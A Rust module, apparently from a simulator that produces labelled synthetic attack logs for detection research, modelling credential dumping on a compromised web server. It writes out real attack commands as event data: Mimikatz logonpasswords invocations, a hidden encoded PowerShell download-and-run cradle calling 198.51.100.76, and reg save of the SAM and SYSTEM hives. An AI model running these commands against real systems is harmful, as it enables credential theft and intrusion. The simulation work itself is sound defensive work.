//! Stage 3: credentials, from LSASS memory (the dumper changes from wave to wave) and from
//! the registry hives.

use super::{Ctx, WaveState};
use crate::clock::{MINUTE, SECOND};
use crate::sink::Sink;
use crate::windows::{exe, Exe, Who};
use crate::world::{Account, AccountKind};

/// Dumps credentials on the web server; returns the administrator whose were stolen.
pub(super) fn dump<'a>(c: &mut Ctx<'a>, w: &mut WaveState<'_>, sink: &mut Sink) -> &'a Account {
    let world = c.world;
    let dir = c.kit.dir;
    let tools = world.profile.habits.tools;
    let (web, parent) = (w.web, &w.parent);
    w.t += c.dice.range(10, 40) * MINUTE;
    let t = w.t;
    let admins = world.accounts_of(AccountKind::Admin);
    let stolen = admins[(c.kit.wave as usize) % admins.len()];
    let lsass = web.running(
        &mut c.dice,
        "C:\\Windows\\system32\\lsass.exe",
        "C:\\Windows\\system32\\lsass.exe",
        Who::system(),
    );
    let build = c.kit.build;
    let dumper = match c.kit.wave % 3 {
        1 => {
            let path = c.tool(&format!("{dir}\\{}", tools[3]));
            c.label(sink, 3, "T1105", "credential dumper uploaded");
            w.shell_req(c, sink, t - SECOND, 200);
            web.file(sink, t, parent, &path);
            w.shell_cmd(
                c,
                sink,
                t + 20 * SECOND,
                3,
                "T1003.001",
                "Mimikatz (modified) dumps LSASS",
                Exe {
                    path: &path,
                    pe: "mimikatz.exe",
                    build,
                },
                &format!(
                    "{path} \"privilege::debug\" \"sekurlsa::logonpasswords\" exit > {dir}\\o.txt"
                ),
            )
        }
        2 => {
            let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.76:8080/s.ps1'); Invoke-Mimikatz -DumpCreds";
            let encoded = utf16_base64(script);
            let ps = w.shell_cmd(
                c,
                sink,
                t,
                3,
                "T1059.001",
                "PowerShell Mimikatz",
                exe(
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "PowerShell.EXE",
                ),
                &format!("powershell.exe -nop -w hidden -enc {encoded}"),
            );
            c.label(sink, 3, "T1003.001", "PowerShell Mimikatz script block");
            web.script_block(
                sink,
                &mut c.dice,
                t + 2 * SECOND,
                &ps,
                &format!(
                    "{script}\r\nfunction Invoke-Mimikatz {{ ... sekurlsa::logonpasswords ... }}"
                ),
            );
            ps
        }
        _ => {
            let path = c.tool(&format!("{dir}\\wuauclt64.exe"));
            c.label(sink, 3, "T1105", "credential dumper uploaded");
            w.shell_req(c, sink, t - SECOND, 200);
            web.file(sink, t, parent, &path);
            w.shell_cmd(
                c,
                sink,
                t + 20 * SECOND,
                3,
                "T1003.001",
                "rebuilt Mimikatz dumps LSASS",
                Exe {
                    path: &path,
                    pe: "",
                    build,
                },
                &format!("{path} -l -o {dir}\\wu.log"),
            )
        }
    };
    c.label(sink, 3, "T1003.001", "LSASS memory read");
    web.access(
        sink,
        t + 25 * SECOND,
        &dumper,
        &lsass,
        if c.kit.wave == 1 { "0x1010" } else { "0x1410" },
    );
    for (k, hive) in ["sam", "system"].into_iter().enumerate() {
        let tt = t + (60 + 20 * k as i64) * SECOND;
        let out = format!("{dir}\\{hive}.hiv");
        let reg = w.shell_cmd(
            c,
            sink,
            tt,
            3,
            "T1003.002",
            "registry hive saved for offline cracking",
            exe("C:\\Windows\\System32\\reg.exe", "reg.exe"),
            &format!("reg save hklm\\{hive} {out} /y"),
        );
        c.label(sink, 3, "T1003.002", "hive file written");
        web.file(sink, tt + SECOND, &reg, &out);
    }
    stolen
}

/// PowerShell's `-enc` form: UTF-16LE, base64.
fn utf16_base64(s: &str) -> String {
    const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = (u32::from(chunk[0]) << 16)
            | (u32::from(*chunk.get(1).unwrap_or(&0)) << 8)
            | u32::from(*chunk.get(2).unwrap_or(&0));
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(B64[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn powershell_encoding_is_utf16_base64() {
        // "ab" in UTF-16LE is 61 00 62 00.
        assert_eq!(utf16_base64("ab"), "YQBiAA==");
    }
}
